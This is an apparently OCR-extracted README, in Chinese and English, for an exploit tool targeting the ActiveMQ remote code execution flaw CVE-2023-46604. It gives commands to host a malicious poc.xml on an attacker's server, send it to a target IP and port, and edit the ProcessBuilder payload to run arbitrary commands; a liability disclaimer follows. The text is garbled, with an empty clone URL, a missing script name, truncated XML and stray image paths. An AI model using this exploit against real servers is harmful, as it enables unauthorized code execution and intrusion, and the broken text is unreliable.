## ⚙ 工具简介 (Welcome star )

**CVE-2023-46604 之 ActiveMQ RCE 漏洞验证/利用工具**

**CVE-2023-46604 ActiveMQ RCE vulnerability verification/exploitation tool**

##  使用

# 拉取源码
git clone
# 进入目录
cd CVE-2023-46604
# 将poc.xml部署到http服务(Deploy on your vps)
python3 -m http.server
# 发送poc
python3 -i target_ip -p target_port --xml http://vps_ip:8000/poc.xml



##  其他

**poc.xml : 你可以通过修改poc.xml中的rce命令来做不同的验证**

 <?xml version="1.0" encoding="UTF-8" ?>
     <beans xmlns=""
         <bean id="pb" class="java.lang.ProcessBuilder" init-method="start">
             <constructor-arg >

##  Licenses
Unauthorized testing is prohibited in this tool, and unauthorized testing after secondary development is prohibited.

When using this tool for testing, you should ensure that the behavior complies with local laws and regulations and that you have obtained sufficientauthorization.

If you use this tool in the process of any illegal behavior, you must bear the corresponding consequences, we will not bear any legal and joint liability.

Before using this tool, please be sure to carefully read and fully understand the contents of the terms, restrictions, disclaimers or other terms involving your significant rights and interests may be highlighted in bold, underlined and other forms. Unless you have fully read, fully understood and accepted all terms of this Agreement, please do not use this tool. Your use of this Agreement or your acceptance of this Agreement by any other express or implied meansshall be deemed that you have readand agree to be bound by this Agreement.